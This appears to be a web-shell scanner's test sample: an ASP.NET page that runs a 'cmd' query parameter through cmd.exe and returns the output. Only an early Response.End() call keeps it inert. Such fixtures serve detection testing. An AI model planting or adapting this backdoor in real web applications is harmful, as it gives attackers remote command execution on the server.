<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%
string c = HttpUtility.ParseQueryString(new Uri(Request.Url.Scheme + "://" + Request.Url.Authority + Request.RawUrl).Query).Get("cmd");
var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + c;
psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
%>
